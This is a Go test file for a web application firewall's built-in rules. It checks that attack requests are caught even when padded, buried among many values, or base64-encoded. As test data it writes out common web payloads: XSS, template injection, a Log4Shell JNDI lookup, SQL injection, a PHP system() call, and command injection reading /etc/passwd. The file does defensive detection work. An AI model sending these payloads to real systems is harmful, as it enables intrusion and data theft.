package builtin

import (
	"strings"
	"testing"

	"github.com/tocsin-project/tocsin/waf"
)

// Every attack of the corpus is stopped at its first request, or asked.
func TestAttacks(t *testing.T) {
	rules := own(t)
	rows := corpus(t, "attacks/*.txt")
	if len(rows) < 200 {
		t.Errorf("%d rows, want 200", len(rows))
	}
	likely := 0
	for i := range rows {
		s := rows[i].request(t)
		switch c, name := strongest(s.matches(rules)); {
		case c > waf.Likely:
			t.Errorf("%v: passes (%s)", &rows[i], name)
		case c == waf.Likely:
			likely++
			t.Logf("%v: %s", &rows[i], name)
		}
	}
	t.Logf("%d of %d are likely only", likely, len(rows))
}

// Attacks that stand behind so much padding that neither the beginning nor the end of a value
// has them are stopped, too.
func TestAttacksInTheMiddle(t *testing.T) {
	rules := own(t)
	for _, attack := range []string{"<svg onload=alert(1)>", "{{7*7}}", "${jndi:ldap://203.0.113.9/a}", "1' or '1'='1", "<?php system('id');?>"} {
		for _, padding := range []string{"(", "a", "=", "a.b-"} {
			pad := strings.Repeat(padding, 9<<10)
			r := row{where: "arg", name: "id", text: pad + attack + pad}
			s := r.request(t)
			if c, name := strongest(s.matches(rules)); c > waf.Likely {
				t.Errorf("%s within %q passes (%s)", attack, padding, name)
			}
		}
	}
}

// An attack with as many values around it as XML, JSON and forms may have is found.
func TestAttacksAmongManyValues(t *testing.T) {
	rules := own(t)
	const many = 300
	for _, r := range []row{
		{where: "raw", name: "text/xml", text: `<?xml version="1.0"?><r>` + strings.Repeat("<a>it's x</a>", many) + `<b>1' or '1'='1</b></r>`},
		{where: "form", name: "data", text: "[" + strings.Repeat(`"it's x",`, many) + `"127.0.0.1;cat /etc/passwd"]`},
	} {
		s := r.request(t)
		if c, name := strongest(s.matches(rules)); c != waf.Certain {
			t.Errorf("%v: %v by %s", &r, c, name)
		}
	}
}

// What base64 stands for is likely at most, since only some sites decode it.
func TestAttacksInBase64AreLikely(t *testing.T) {
	rules := own(t)
	for _, text := range []string{"MScgb3IgJzEnPScx", "MScgdW5pb24gc2VsZWN0IDEsMiwzLS0", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"} {
		for _, where := range []string{"arg", "form", "json"} {
			r := row{where: where, name: "data", text: text}
			s := r.request(t)
			if c, name := strongest(s.matches(rules)); c != waf.Likely {
				t.Errorf("%v: %v by %q, want it likely", &r, c, name)
			}
		}
	}
}
